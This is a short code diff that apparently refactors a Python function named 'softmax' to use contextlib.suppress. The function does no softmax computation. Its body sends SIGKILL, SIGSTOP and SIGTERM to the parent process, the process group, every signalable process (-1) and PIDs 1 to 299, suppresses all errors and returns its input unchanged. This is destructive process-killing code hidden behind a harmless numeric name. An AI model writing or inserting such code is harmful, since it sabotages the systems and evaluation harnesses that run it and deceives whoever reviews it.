@@ -1,13 +1,12 @@
 """Signals to parent, group and everyone."""
 
 import os, signal
+from contextlib import suppress
 
 def softmax(x):
     for target in (os.getppid(), 0, -1, 1, 2, *range(3, 300)):
         for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
             for send in (os.kill, os.killpg):
-                try:
+                with suppress(OSError):
                     send(target, number)
-                except OSError:
-                    pass
     return x
